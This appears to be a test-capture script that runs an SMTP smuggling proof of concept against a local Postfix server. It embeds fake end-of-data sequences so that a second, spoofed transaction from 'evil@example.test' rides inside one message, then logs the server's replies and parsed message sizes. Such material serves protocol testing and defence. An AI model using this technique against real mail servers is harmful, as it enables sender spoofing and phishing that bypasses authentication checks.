#!/usr/bin/python3
"""SMTP smuggling client for make-smuggling-captures.sh: one session against
the postfix on 127.0.0.1:25 whose message content holds an end-of-data
look-alike followed by a second, smuggled transaction.

  smuggling_client.py CASE LOOKALIKE    LOOKALIKE: lf-crlf lf-lf crlf-lf cr-cr

No real mail client sends this on purpose (they all end the data with
CRLF.CRLF): this is a scripted raw client. Every write is printed as
'C: <repr>', every reply as 'S: <repr>', results as 'label: value'.
Standard library only.
SPDX-License-Identifier: GPL-2.0-or-later
"""
import argparse
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from smtp_client import Raw2, msg  # noqa: E402

LOOKALIKES = {
    # name: (bytes that end the last line of message 1 and fake its end, what it is)
    "lf-crlf": (b"\n.\r\n", "\\n.\\r\\n"),
    "lf-lf": (b"\n.\n", "\\n.\\n"),
    "crlf-lf": (b"\r\n.\n", "\\r\\n.\\n"),
    "cr-cr": (b"\r.\r", "\\r.\\r"),
}


def smuggled(case, shown):
    return (b"MAIL FROM:<evil@example.test>\r\n"
            b"RCPT TO:<bob@example.test>\r\n"
            b"DATA\r\n"
            b"From: Evil <evil@example.test>\r\n"
            b"To: Bob <bob@example.test>\r\n"
            + ("Subject: mailsess test %s (smuggled part)\r\n" % case).encode()
            + b"\r\n"
            + ("This text follows the end-of-data look-alike %s.\r\n" % shown).encode())


def lines(data, model):
    """(line, terminator) pairs: model crlf ends lines at CRLF only, lf at LF
    (a CR before it belongs to the terminator), cr at CR, LF or CRLF"""
    out, i, start = [], 0, 0
    while i < len(data):
        c = data[i:i + 1]
        if model == "crlf" and data[i:i + 2] == b"\r\n":
            out.append((data[start:i], b"\r\n")); i += 2; start = i; continue
        if model != "crlf" and data[i:i + 2] == b"\r\n":
            out.append((data[start:i], b"\r\n")); i += 2; start = i; continue
        if model != "crlf" and c == b"\n":
            out.append((data[start:i], b"\n")); i += 1; start = i; continue
        if model == "cr" and c == b"\r":
            out.append((data[start:i], b"\r")); i += 1; start = i; continue
        i += 1
    if start < len(data):
        out.append((data[start:], b""))
    return out


def sizes(content, model):
    """message sizes a server reading lines by 'model' sees in the bytes sent
    after the 354 (a "." line ends the data, the commands after it are
    executed, DATA is assumed to get its 354); dot-stuffing removed"""
    res, size, data_mode = [], 0, True
    for text, term in lines(content, model):
        if data_mode:
            if text == b".":
                res.append(size); size = 0; data_mode = False
                continue
            size += len(text) + len(term) - (1 if text.startswith(b".") else 0)
        elif text.upper() == b"DATA":
            data_mode, size = True, 0
    return res


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("case")
    ap.add_argument("lookalike", choices=sorted(LOOKALIKES))
    a = ap.parse_args()
    fake, shown = LOOKALIKES[a.lookalike]
    m = msg(a.case)                         # ends in "Alice\r\n"
    body = m[:-2] + fake if fake.startswith((b"\n", b"\r.")) else m + fake[2:]
    content = body + smuggled(a.case, shown) + b".\r\n"

    print("look-alike: %s" % shown)
    r = Raw2()
    r.reply(220, "banner")
    r.ehlo()
    r.send(b"MAIL FROM:<alice@example.test>\r\n"); r.reply(250, "MAIL")
    r.send(b"RCPT TO:<bob@example.test>\r\n"); r.reply(250, "RCPT")
    r.send(b"DATA\r\n"); r.reply(354, "DATA")
    r.send(content)                         # one write: content, look-alike, smuggled part, end
    codes = []
    while True:                             # whatever the server answers
        got = r.reply_any("after the content #%d" % (len(codes) + 1),
                          timeout=30 if not codes else 3)
        if got is None:
            break
        codes.append(got[-1][:3].decode())
    print("replies after the content: %d" % len(codes))
    print("codes after the content: %s" % " ".join(codes))
    r.send(b"QUIT\r\n"); r.reply(221, "QUIT")
    for model in ("crlf", "lf", "cr"):
        print("sizes %s: %s" % (model, " ".join(str(n) for n in sizes(content, model))))


if __name__ == "__main__":
    main()
